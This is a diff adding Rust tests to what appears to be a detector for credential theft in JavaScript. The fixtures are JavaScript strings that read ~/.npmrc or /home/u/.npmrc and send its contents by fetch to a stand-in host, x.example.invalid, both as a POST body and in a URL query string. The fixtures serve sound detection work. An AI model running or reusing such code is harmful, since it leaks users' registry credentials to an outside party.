@@ -151,3 +151,19 @@ fn oversized_segments_are_skipped_with_a_note() {
         .contains("flow analysis"));
     assert_eq!(segments[0].notes().count(), 1);
 }
+
+#[test]
+fn a_helper_that_reads_the_file_it_is_given_reads_a_secret_when_given_a_credential_path() {
+    let text = "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nfunction readConfig(name) {\n  try { return fs.readFileSync(path.join(os.homedir(), name), 'utf8'); } catch (_) { return ''; }\n}\nconst cfg = readConfig('.npmrc');\nconst other = readConfig('.myapprc');\nfetch('https://x.example.invalid', { method: 'POST', body: JSON.stringify({ other }) });\nfetch('https://x.example.invalid', { method: 'POST', body: cfg });\n";
+    let found = js(text);
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert_eq!(found[0].2, "readConfig('.npmrc');");
+}
+
+#[test]
+fn a_request_to_the_host_named_in_the_credential_file_is_its_own_service() {
+    let own = js("const fs = require('fs');\nconst text = fs.readFileSync('/home/u/.npmrc', 'utf8');\nconst base = text.split('=')[1];\nfetch(`${base}/left-pad`);\nfetch(base + '/-/whoami', { headers: { authorization: text } });\n");
+    assert!(own.is_empty(), "{own:?}");
+    let stolen = js("const fs = require('fs');\nconst text = fs.readFileSync('/home/u/.npmrc', 'utf8');\nfetch(`https://x.example.invalid/?t=${text}`);\nconst u = 'https://x.example.invalid/?t=' + text;\nfetch(u);\n");
+    assert_eq!(stolen.len(), 2, "{stolen:?}");
+}
